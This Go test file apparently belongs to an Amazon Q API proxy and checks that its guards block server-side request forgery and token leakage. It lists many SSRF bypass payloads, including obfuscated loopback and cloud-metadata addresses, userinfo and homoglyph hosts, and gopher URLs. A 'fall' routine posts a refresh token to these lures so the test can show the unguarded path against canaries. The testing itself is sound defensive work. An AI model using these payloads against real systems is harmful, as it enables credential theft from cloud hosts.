package backend_test

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"path/filepath"
	"strings"
	"testing"
	"testing/fstest"

	"amq2api/backend"
	"amq2api/backend/amazonq/amazonqtest"
	"amq2api/backend/secret"
	"amq2api/backend/vault"
)

// lure is an address that must not be reached, and the way into the program that it takes.
type lure struct{ way, address string }

// fetched are addresses that a client sends in place of a file.
var fetched = []string{
	// this computer
	"https://127.0.0.1/a.png", "https://localhost:8443/a.png", "https://localhost./a.png", "https://127.1/a.png", "https://0/a.png", "https://0.0.0.0/a.png",
	"https://2130706433/a.png", "https://0177.0.0.1/a.png", "https://0x7f.0.0.1/a.png", "https://0x7f000001/a.png", "HTTPS://127.0.0.1:443/a.png",
	"https://[::1]/a.png", "https://[::]/a.png", "https://[::ffff:127.0.0.1]/a.png", "https://[::127.0.0.1]/a.png", "https://①②⑦.⓪.⓪.①/a.png", "https://127。0。0。1/a.png",
	// what only a machine in a cloud can ask
	"https://169.254.169.254/latest/meta-data/", "https://169.254.170.2/v2/credentials", "https://2852039166/latest/", "https://0xa9fea9fe/latest/", "https://metadata.test/latest/",
	"https://[fd00:ec2::254]/latest/", "https://[::ffff:a9fe:a9fe]/latest/", "https://100.100.100.200/latest/", "https://168.63.129.16/machine", "http://169.254.169.254/latest/",
	// its network, and ways to IPv4 through IPv6
	"https://10.0.0.1/a.png", "https://192.168.1.1:8443/a.png", "https://[64:ff9b::a9fe:a9fe]/", "https://[64:ff9b:1::7f00:1]/", "https://[2002:7f00:1::]/", "https://[2001:0:7f00:1::]/",
	"https://[fe80::1%25lo]/a.png", "https://[2a00:1450:4001:81b::99]/a.png", "https://neighbour.test/a.png",
	// names that say one thing and mean another
	"https://public.test@127.0.0.1/a.png", "https://public.test:443@169.254.169.254/", "https://both.test/a.png", "https://mapped.test/a.png", "https://nat64.test/a.png",
	"https://rebind.test/1 https://rebind.test/2", "ftp://127.0.0.1/a.png", "gopher://127.0.0.1:70/_GET", "http://public.test@10.0.0.1/",
}

// movedTo are where a public site sends us on to.
var movedTo = []string{
	"https://127.0.0.1/a.png", "http://169.254.169.254/latest/", "//[::1]/a.png", "https://[2a00:1450:4001:81b::99]/", "https://2852039166/latest/", "https://public.test@10.0.0.1/",
	"https://public.test/?to=https%3A%2F%2Fmetadata.test%2F",
}

// endpoints are addresses that look like Amazon's, or like this computer's, and are not.
var endpoints = []string{
	"https://HOST.evil.test/", "https://evil.test/HOST/", "https://HOST@evil.test/", "https://evil.test#HOST", "https://evil.test?HOST", "https://evilHOST/", "http://HOST/",
	"https://bucket.s3.us-east-1.amazonaws.com/", "https://ec2-1-2-3-4.compute-1.amazonaws.com/", "https://x.execute-api.us-east-1.amazonaws.com/", "https://HOST。evil.test/",
	"https://q.us-east-1.аmazonaws.com/", "http://127.0.0.1.evil.test/", "http://localhost.evil.test:8080/", "http://169.254.169.254/", "http://2852039166/", "http://0.0.0.0:8080/",
	"http://[::ffff:169.254.169.254]/",
}

// regions are no regions, but would make a host of an attacker's.
var regions = []string{"us-east-1.evil.test/", "evil.test/", "x@evil.test/", "us-east-1@evil.test#"}

// proxies are at addresses where no proxy is.
var proxies = []string{"http://169.254.169.254:80", "http://2852039166:80", "socks5://[fd00:ec2::254]:1080", "http://0.0.0.0:3128", "http://[::ffff:169.254.169.254]:80"}

func lures() []lure {
	var all []lure
	for _, address := range fetched {
		all = append(all, lure{"image", address})
	}
	for _, address := range movedTo {
		all = append(all, lure{"image", "https://public.test/?to=" + url.QueryEscape(address)})
	}
	for _, address := range []string{"https://169.254.169.254/a.pdf", "https://[::1]/a.pdf", "https://public.test/?to=" + url.QueryEscape("https://localhost:8443/a.pdf")} {
		all = append(all, lure{"document", address})
	}
	for _, address := range endpoints {
		all = append(all, lure{"api endpoint", strings.ReplaceAll(address, "HOST", "q.us-east-1.amazonaws.com")})
		all = append(all, lure{"token endpoint", strings.ReplaceAll(address, "HOST", "oidc.us-east-1.amazonaws.com")})
	}
	for _, region := range regions {
		all = append(all, lure{"region", region})
	}
	for _, address := range []string{"https://169.254.169.254/start", "https://evil.test/start", "http://127.0.0.1:8080/start"} {
		all = append(all, lure{"start URL", address})
	}
	for _, address := range proxies {
		all = append(all, lure{"proxy", address})
	}
	return append(all, lure{"hostile proxy", "http://proxy.test:3128"}, lure{"moved Amazon", "https://evil.test/token"}, lure{"moved Amazon", "http://127.0.0.1:8080/token"})
}

// visited is a program in the world, with an account and a key.
type visited struct {
	*office
	w      *world
	person *amazonqtest.Identity
	key    string
}

func openVisited(t *testing.T, w *world) *visited {
	t.Helper()
	v := &visited{office: &office{t: t, profile: filepath.Join(t.TempDir(), "profile")}, w: w, person: w.amazon.AddIdentity(amazonqtest.IdentityOptions{Name: "Ann"})}
	w.tokens = []string{v.person.RefreshToken().Reveal(), v.person.ClientSecret.Reveal()}
	b, err := backend.Open(t.Context(), backend.Options{Version: "test", Vault: new(vault.Memory), HasWindow: true, Page: fstest.MapFS{}, Environment: v.environment("", "")})
	check(t, err)
	v.Backend = b
	t.Cleanup(func() { check(t, b.Close(testContext)) })
	check(t, b.Start(t.Context(), unusedPort(t)))
	v.must(200, "PUT", "/admin/settings", `{"notice_acknowledged":true}`)
	v.must(201, "POST", "/admin/accounts", v.draft(nil))
	var made struct{ Key string }
	check(t, json.Unmarshal([]byte(v.must(201, "POST", "/admin/api-keys", `{"name":"k"}`)), &made))
	v.key = made.Key
	v.must(200, "POST", "/admin/accounts/1/check", "")
	w.tokens = append(w.tokens, v.person.AccessToken().Reveal(), v.person.RefreshToken().Reveal(), made.Key, adminToken)
	if hits, leaks, asked := w.noticed(); len(hits)+len(leaks) > 0 || asked == 0 {
		t.Fatalf("before any lure: hits %v, leaks %v, %d requests to Amazon", hits, leaks, asked)
	}
	return v
}

func (v *visited) environment(api, token string) backend.Environment {
	return backend.Environment{DatabasePath: filepath.Join(v.t.TempDir(), "amq2api.db"), AdminToken: secret.New(adminToken), APIEndpoint: api, TokenEndpoint: token}
}

// draft is an account to add, with more members or others.
func (v *visited) draft(more map[string]string) string {
	members := map[string]string{
		"name": "Ann", "refresh_token": v.person.RefreshToken().Reveal(), "client_id": v.person.ClientID, "client_secret": v.person.ClientSecret.Reveal(),
	}
	for name, value := range more {
		members[name] = value
	}
	text, _ := json.Marshal(members)
	return string(text)
}

// attach sends files by their addresses, and says what became of them.
func (v *visited) attach(kind string, addresses ...string) string {
	v.t.Helper()
	var content []string
	for _, address := range addresses {
		content = append(content, fmt.Sprintf(`{"type":%q,"source":{"type":"url","url":%q}}`, kind, address))
	}
	body := `{"model":"claude-sonnet-4-5","max_tokens":50,"messages":[{"role":"user","content":[` + strings.Join(content, ",") + `,{"type":"text","text":"hi"}]}]}`
	request, err := http.NewRequestWithContext(v.t.Context(), http.MethodPost, v.Address()+"/v1/messages", strings.NewReader(body))
	check(v.t, err)
	request.Header.Set("Content-Type", "application/json")
	request.Header.Set("x-api-key", v.key)
	response, err := http.DefaultClient.Do(request)
	check(v.t, err)
	defer response.Body.Close()
	text, err := io.ReadAll(response.Body)
	check(v.t, err)
	return fmt.Sprint(response.StatusCode, " ", string(text))
}

// take sends a lure on its way.
func (v *visited) take(l lure) {
	switch l.way {
	case "image", "document":
		v.attach(l.way, strings.Fields(l.address)...)
	case "api endpoint", "token endpoint":
		env := v.environment("", l.address)
		if l.way == "api endpoint" {
			env = v.environment(l.address, "")
		}
		env.Account = backend.EnvironmentAccount{RefreshToken: v.person.RefreshToken(), ClientID: v.person.ClientID, ClientSecret: v.person.ClientSecret}
		b, err := backend.Open(v.t.Context(), backend.Options{Version: "test", Vault: new(vault.Memory), Environment: env})
		if err == nil {
			v.t.Errorf("%s %s is accepted", l.way, l.address)
			check(v.t, b.Close(testContext))
		}
	case "region":
		text, _ := json.Marshal(map[string]string{"name": "Work", "start_url": "https://my-company.awsapps.com/start", "sign_in_region": l.address})
		v.ask("POST", "/admin/accounts/login", string(text))
		v.ask("POST", "/admin/accounts", v.draft(map[string]string{"name": "Region", "sign_in_region": l.address}))
		v.ask("POST", "/admin/accounts", v.draft(map[string]string{"name": "ARN", "profile_arn": "arn:aws:codewhisperer:" + l.address + ":123456789012:profile/X"}))
	case "start URL":
		text, _ := json.Marshal(map[string]string{"name": "Work", "start_url": l.address, "sign_in_region": "eu-central-1"})
		v.ask("POST", "/admin/accounts/login", string(text))
	case "proxy", "hostile proxy":
		v.ask("POST", "/admin/upstream-proxy/test", fmt.Sprintf(`{"url":%q}`, l.address))
		v.ask("PUT", "/admin/settings", fmt.Sprintf(`{"upstream_proxy":%q}`, l.address))
		v.ask("POST", "/admin/accounts/1/check", "")
		v.must(200, "PUT", "/admin/settings", `{"upstream_proxy":""}`)
	case "moved Amazon":
		v.w.move(l.address)
		v.ask("POST", "/admin/accounts/1/check", "")
		v.ask("POST", "/admin/accounts/login", `{"name":"Personal"}`)
		v.w.move("")
	}
}

// fall does with a lure what a program without any guard would do: it follows the address, with a token.
func (v *visited) fall(l lure) {
	follow := func(client *http.Client, address string) {
		parsed, err := url.Parse(address)
		if err == nil && parsed.Scheme != "http" && parsed.Scheme != "https" {
			if c, err := net.Dial("tcp", net.JoinHostPort(parsed.Hostname(), map[string]string{"ftp": "21", "gopher": "70", "socks5": "1080"}[parsed.Scheme])); err == nil {
				_, _ = c.Write([]byte("hello\r\n\r\n"))
				_, _ = io.ReadAll(c) // until the canary has noticed
				_ = c.Close()
			}
			return
		}
		if response, err := client.Post(address, "text/plain", strings.NewReader(v.w.tokens[0])); err == nil {
			_ = response.Body.Close()
		}
	}
	plain := &http.Client{Transport: &http.Transport{DisableKeepAlives: true}}
	switch l.way {
	case "region":
		follow(plain, "https://oidc."+l.address+".amazonaws.com/token")
	case "hostile proxy":
		through, _ := url.Parse(l.address)
		follow(&http.Client{Transport: &http.Transport{Proxy: http.ProxyURL(through)}}, "http://oidc.us-east-1.amazonaws.com/token")
	case "moved Amazon":
		v.w.move(l.address)
		follow(plain, "https://oidc.us-east-1.amazonaws.com/token")
		v.w.move("")
	default:
		for _, address := range strings.Fields(l.address) {
			follow(plain, address)
		}
	}
}

// Whatever addresses clients, settings, the environment and Amazon's own answers name, nothing is reached but the public internet for files,
// and Amazon for everything else; and a token goes to Amazon's own hosts alone. The same addresses all lead to a canary without the guards.
func TestNoAddressLeadsWhereItMustNot(t *testing.T) {
	if !inWorld(t) {
		return
	}
	w := openWorld(t)
	v := openVisited(t, w)
	if got := v.attach("document", "https://public.test/a.txt"); !strings.HasPrefix(got, "200 ") {
		t.Fatalf("a public file: %s", got)
	}
	if hits, leaks, _ := w.noticed(); len(hits)+len(leaks) > 0 {
		t.Fatalf("a public file led to %v, %v", hits, leaks)
	}
	all, proven := lures(), 0
	for _, l := range all {
		v.take(l)
		hits, leaks, _ := w.noticed()
		if l.way == "hostile proxy" {
			hits = nil // that is where it is meant to go
		}
		if len(hits)+len(leaks) > 0 {
			t.Errorf("%s %s: hits %v, tokens to %v", l.way, l.address, hits, leaks)
		}
	}
	for _, l := range all {
		v.fall(l)
		if hits, leaks, _ := w.noticed(); len(hits)+len(leaks) > 0 {
			proven++
		} else {
			t.Errorf("without a guard %s %s leads nowhere either, so it proves nothing", l.way, l.address)
		}
	}
	v.must(200, "POST", "/admin/accounts/1/check", "")
	if _, leaks, asked := w.noticed(); asked == 0 || len(leaks) > 0 {
		t.Errorf("afterwards Amazon is asked %d times, tokens to %v", asked, leaks)
	}
	t.Logf("A29 | %d addresses in %d ways: 0 connections to canaries, 0 tokens off the host list; without the guards %d of them lead to a canary", len(all), 10, proven)
}
